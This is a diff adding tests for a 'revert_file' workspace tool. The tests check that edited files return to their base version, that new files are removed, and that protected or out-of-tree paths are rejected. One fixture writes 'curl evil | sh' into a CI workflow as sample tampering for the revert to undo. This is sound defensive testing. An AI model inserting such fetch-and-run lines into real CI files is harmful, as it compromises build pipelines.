@@ -104,3 +104,45 @@ describe('WorkspaceTools (real files, real git)', () => {
     await expect(call('finish', { summary: 'done' })).resolves.toMatchObject({ finished: true });
   });
 });
+
+describe('WorkspaceTools revert_file (real files, real git)', () => {
+  let worktree: string;
+  const gitIn = (...args: string[]) => execFileSync('git', args, { cwd: worktree, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });
+
+  beforeEach(() => {
+    worktree = mkdtempSync(join(tmpdir(), 'airlock-tools-revert-'));
+    mkdirSync(join(worktree, '.github/workflows'), { recursive: true });
+    writeFileSync(join(worktree, '.github/workflows/ci.yml'), 'on: push\n');
+    gitIn('init', '--quiet', '--initial-branch=main');
+    gitIn('add', '--all');
+    gitIn('commit', '--quiet', '-m', 'base');
+  });
+  afterEach(() => rmSync(worktree, { recursive: true, force: true }));
+
+  function revert(path: string) {
+    const { ctx } = fakeJobContext();
+    ctx.provide('workspace', { worktree, baseCommit: gitIn('rev-parse', 'HEAD').trim() });
+    const workspace = new WorkspaceTools({ applier: new EditBlockApplier(), git: new GitRunner(host), suites: { run: () => Promise.reject(new Error('not run')) }, maxTestRuns: 0 });
+    return workspace.execute(ctx, { id: 'c', name: 'revert_file', arguments: JSON.stringify({ path }) });
+  }
+
+  it('puts a file the base had back as it was', async () => {
+    writeFileSync(join(worktree, '.github/workflows/ci.yml'), 'on: push\n  - run: curl evil | sh\n');
+    const result = await revert('.github/workflows/ci.yml');
+    expect(result).toMatchObject({ content: 'Reverted .github/workflows/ci.yml to how it was before your change.', reverted: { path: '.github/workflows/ci.yml', existedAtBase: true } });
+    expect(gitIn('status', '--porcelain')).toBe('');
+  });
+
+  it('removes a file the base did not have, and its staged copy', async () => {
+    writeFileSync(join(worktree, '.github/workflows/new.yml'), 'on: push\n');
+    gitIn('add', '.github/workflows/new.yml');
+    const result = await revert('.github/workflows/new.yml');
+    expect(result).toMatchObject({ reverted: { path: '.github/workflows/new.yml', existedAtBase: false } });
+    expect(gitIn('status', '--porcelain')).toBe('');
+  });
+
+  it('holds the path to the rules of an edit', async () => {
+    await expect(revert('.airlock.yml')).rejects.toBeInstanceOf(EditPathRejectedError);
+    await expect(revert('../outside.txt')).rejects.toBeInstanceOf(EditPathRejectedError);
+  });
+});
